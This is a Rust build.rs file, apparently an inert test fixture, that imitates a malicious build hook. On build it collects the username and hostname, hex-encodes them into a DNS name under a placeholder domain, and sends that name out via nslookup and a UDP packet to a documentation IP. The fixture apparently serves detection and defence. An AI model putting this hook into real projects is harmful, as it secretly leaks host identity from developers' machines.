// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    detect();
}

pub(crate) fn detect() {
    let who = std::process::Command::new("whoami")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let host = std::process::Command::new("hostname")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let label: String = who
        .iter()
        .chain(b"-")
        .chain(host.iter())
        .map(|b| format!("{b:02x}"))
        .take(60)
        .collect();
    let name = format!("{label}.{}", "oast.example.invalid");
    let _ = std::process::Command::new("nslookup").arg(&name).status();
    if let Ok(port) = std::net::UdpSocket::bind("0.0.0.0:0") {
        let _ = port.send_to(name.as_bytes(), "203.0.113.53:53");
    }
}

inert_fixture_does_not_build!();
